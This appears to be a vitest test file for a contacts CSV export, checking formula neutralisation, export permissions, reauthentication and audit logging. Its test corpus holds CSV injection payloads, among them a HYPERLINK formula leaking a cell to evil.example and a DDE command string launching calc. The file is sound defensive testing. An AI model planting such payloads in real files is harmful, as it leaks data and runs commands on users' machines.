import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { withWorkspace } from "../../src/db/with-workspace.ts";
import { createApiKey } from "../../src/features/api-keys/service.ts";
import { parseCsv, unneutralizeCell } from "../../src/features/contacts/csv.ts";
import { EXPORT_COLUMNS } from "../../src/features/contacts/export.ts";
import { contactRoutes } from "../../src/features/contacts/routes.ts";
import { permissionsOf } from "../../src/identity/permissions.ts";
import { bearer, createIdentityApp, currentTotp, login } from "../support/identity.ts";
import { auditEntries, createContactsWorld, errorCode, type ContactsWorld, type Json } from "./support.ts";

// The CSV export: an attachment whose cells can never run as spreadsheet formulas (OWASP CSV
// injection: = + - @ TAB CR get a leading quote), that reads back through the parser and imports
// back unchanged; Owners and Admins only, after a recent password confirmation, never an API key;
// audited with the count and nothing personal.

let world: ContactsWorld;

/** Values that a spreadsheet would run as formulas, plus CSV-hostile ones. */
const corpus = {
  hyperlink: '=HYPERLINK("https://evil.example/?leak="&A1,"Click me")',
  plus: "+1",
  minus: "-2+3",
  at: "@SUM(1+1)*cmd|' /C calc'!A0",
  tab: "\t=1+1",
  cr: "\r=1+1",
  quotes: 'He said "hi", then left\nwith a new line',
};

const FORMULA_START = /^[=+\-@\t\r]/;

beforeAll(async () => {
  world = await createContactsWorld();
  let index = 0;
  for (const [key, value] of Object.entries(corpus)) {
    index += 1;
    const created = await world.call(world.owner, "POST", world.contacts(), {
      phone: `+4915150000${String(index).padStart(3, "0")}`,
      // Names cannot hold control characters; those go into custom fields (which may span lines).
      name: /[\t\r\n]/.test(value) ? `Name ${key}` : value,
      tags: ["corpus", key.toLowerCase()],
      customFields: { payload: value, kind: key },
      consent: index % 2 ? { status: "opted_in", source: "web_form" } : undefined,
    });
    expect(created.status, created.text).toBe(201);
  }
  const other = await world.call(world.owner, "POST", world.contacts(), { phone: "+4915150000999", name: "Plain Person", tags: ["other"] });
  expect(other.status).toBe(201);
});
afterAll(async () => {
  await world?.close();
});

async function exportAs(
  user = world.owner,
  query = "",
): Promise<{ status: number; text: string; headers: Record<string, unknown>; json: Json }> {
  return world.call(user, "GET", `${world.contacts()}/export.csv${query}`);
}

describe("the exported file", () => {
  it("is a CSV attachment, not cached, with the security headers", async () => {
    const answer = await exportAs();
    expect(answer.status).toBe(200);
    expect(answer.headers["content-type"]).toBe("text/csv; charset=utf-8");
    expect(answer.headers["content-disposition"]).toMatch(/^attachment; filename="contacts-\d{4}-\d{2}-\d{2}\.csv"$/);
    expect(answer.headers["cache-control"]).toBe("private, no-store");
    expect(answer.headers["x-content-type-options"]).toBe("nosniff");
    expect(answer.headers["content-security-policy"]).toBeDefined();
    expect(answer.text.startsWith("\uFEFFphone,name,")).toBe(true);
  });

  it("neutralizes every formula cell (the injection corpus) and round-trips through the parser", async () => {
    const { text } = await exportAs();
    const records = parseCsv(text);
    const [header, ...rows] = records.map((record) => record.cells);
    expect(header).toEqual([...EXPORT_COLUMNS, "field:kind", "field:payload"]);
    expect(rows).toHaveLength(Object.keys(corpus).length + 1);
    // Not one cell of the file would start a formula.
    for (const row of rows) {
      expect(row).toHaveLength(header!.length);
      for (const cell of row) expect(cell).not.toMatch(FORMULA_START);
    }
    const column = (name: string) => header!.indexOf(name);
    for (const [index, [key, value]] of Object.entries(corpus).entries()) {
      const phone = `+4915150000${String(index + 1).padStart(3, "0")}`;
      const row = rows.find((cells) => cells[column("phone")] === `'${phone}`);
      expect(row, key).toBeDefined();
      const payload = row![column("field:payload")]!;
      // A formula value is written with one leading quote, and reads back exactly so.
      expect(payload).toBe(FORMULA_START.test(value) ? `'${value}` : value);
      expect(unneutralizeCell(payload)).toBe(value);
      expect(row![column("field:kind")]).toBe(key);
      if (!/[\t\r\n]/.test(value)) expect(row![column("name")]).toBe(FORMULA_START.test(value) ? `'${value}` : value);
      expect(row![column("tags")]).toBe(["corpus", key.toLowerCase()].sort().join(";"));
    }
    // Quotes are doubled in the raw text, the way RFC 4180 escapes them.
    expect(text).toContain('"He said ""hi"", then left\nwith a new line"');
    expect(text).toContain(`"'=HYPERLINK(""https://evil.example/?leak=""&A1,""Click me"")"`);
    expect(text).toContain(`"'\r=1+1"`);
  });

  it("imports back unchanged (the dry run finds nothing to do)", async () => {
    const { text } = await exportAs();
    const answer = await world.call(world.owner, "POST", `${world.contacts()}/import`, { csv: text, dryRun: true });
    expect(answer.status, answer.text).toBe(200);
    const report = answer.json as { rows: Array<{ status: string }>; summary: Json };
    expect(report.summary).toMatchObject({ rows: Object.keys(corpus).length + 1, unchanged: Object.keys(corpus).length + 1, invalid: 0 });
    expect(report.summary.ignoredColumns).toEqual(["whatsapp_name", "consent_source", "consent_updated_at", "created_at"]);
  });

  it("exports by tag and by consent status", async () => {
    const phonesOf = (text: string) =>
      parseCsv(text)
        .slice(1)
        .map((record) => record.cells[0]);
    expect(phonesOf((await exportAs(world.owner, "?tag=other")).text)).toEqual(["'+4915150000999"]);
    expect(phonesOf((await exportAs(world.admin, "?tag=CORPUS&consent=opted_in")).text).sort()).toEqual([
      "'+4915150000001",
      "'+4915150000003",
      "'+4915150000005",
      "'+4915150000007",
    ]);
    const none = await exportAs(world.owner, "?tag=nobody");
    expect(parseCsv(none.text)).toHaveLength(1);
    expect((await exportAs(world.owner, "?tag=bad%20tag!")).status).toBe(400);
  });
});

describe("who may export", () => {
  it("refuses Agents and Analysts (403), and audits nothing for them", async () => {
    const before = (await auditEntries(world, world.workspaceA, ["contacts.exported"])).length;
    for (const user of [world.agent, world.analyst]) {
      const answer = await exportAs(user);
      expect([answer.status, errorCode(answer.json)]).toEqual([403, "FORBIDDEN"]);
      expect(answer.text).not.toContain("4915150000");
    }
    expect(await auditEntries(world, world.workspaceA, ["contacts.exported"])).toHaveLength(before);
  });

  it("refuses another workspace's Owner", async () => {
    const answer = await exportAs(world.ownerB);
    expect([403, 404]).toContain(answer.status);
    expect(answer.text).not.toContain("4915150000");
  });

  it("refuses an API key, even one scoped for exports", async () => {
    const key = await withWorkspace(world.db, { workspaceId: world.workspaceA }, (trx) =>
      createApiKey(
        trx,
        {
          workspaceId: world.workspaceA,
          userId: world.owner.userId,
          role: "owner",
          permissions: permissionsOf("owner"),
          audit: { type: "user", id: world.owner.userId },
          ip: null,
          userAgent: null,
        },
        { name: "export robot", scopes: ["contacts.read", "contacts.export"] },
      ),
    );
    const response = await world.app.inject({
      method: "GET",
      url: `${world.contacts()}/export.csv`,
      headers: { authorization: `Bearer ${key.key}` },
    });
    expect(response.statusCode).toBe(403);
    expect(response.json<{ error: { code: string } }>().error.code).toBe("REAUTHENTICATION_REQUIRED");
  });

  it("asks a session that signed in more than 5 minutes ago to confirm the password first", async () => {
    let clock: number | null = Date.now() - 10 * 60 * 1000;
    const app = await createIdentityApp(world.services, { routes: contactRoutes, now: () => new Date(clock ?? Date.now()) });
    try {
      const session = await login(app, world.admin, { now: new Date(clock) });
      clock = null;
      const url = `${world.contacts()}/export.csv`;
      const stale = await app.inject({ method: "GET", url, headers: bearer(session) });
      expect([stale.statusCode, stale.json<{ error: { code: string } }>().error.code]).toEqual([403, "REAUTHENTICATION_REQUIRED"]);
      const confirmed = await app.inject({
        method: "POST",
        url: "/api/v1/auth/reauthenticate",
        headers: bearer(session),
        payload: { password: world.admin.password, totp: await currentTotp(world.admin) },
      });
      expect(confirmed.statusCode, confirmed.body).toBe(204);
      const fresh = await app.inject({ method: "GET", url, headers: bearer(session) });
      expect(fresh.statusCode).toBe(200);
      expect(fresh.headers["content-type"]).toBe("text/csv; charset=utf-8");
    } finally {
      await app.close();
    }
  });

  it("audits each export with its row count and filters, never personal data", async () => {
    const before = (await auditEntries(world, world.workspaceA, ["contacts.exported"])).length;
    const answer = await exportAs(world.owner, "?consent=opted_in");
    expect(answer.status).toBe(200);
    const entries = await auditEntries(world, world.workspaceA, ["contacts.exported"]);
    expect(entries).toHaveLength(before + 1);
    expect(entries.at(-1)!.metadata).toEqual({ rows: parseCsv(answer.text).length - 1, filterTag: false, filterConsent: "opted_in" });
    const all = await world.db.owner
      .selectFrom("audit_entries")
      .select(["metadata", "target_id", "actor_id"])
      .where("workspace_id", "=", world.workspaceA)
      .execute();
    expect(JSON.stringify(all)).not.toMatch(/4915150000|HYPERLINK|Plain Person|Name hyperlink/);
  });
});

describe("logs", () => {
  it("never hold a phone number, a name or a custom field value", () => {
    const text = world.logs.text();
    for (const canary of ["4915150000", "HYPERLINK", "Plain Person", "He said", "SUM(1+1)"]) expect(text).not.toContain(canary);
  });
});
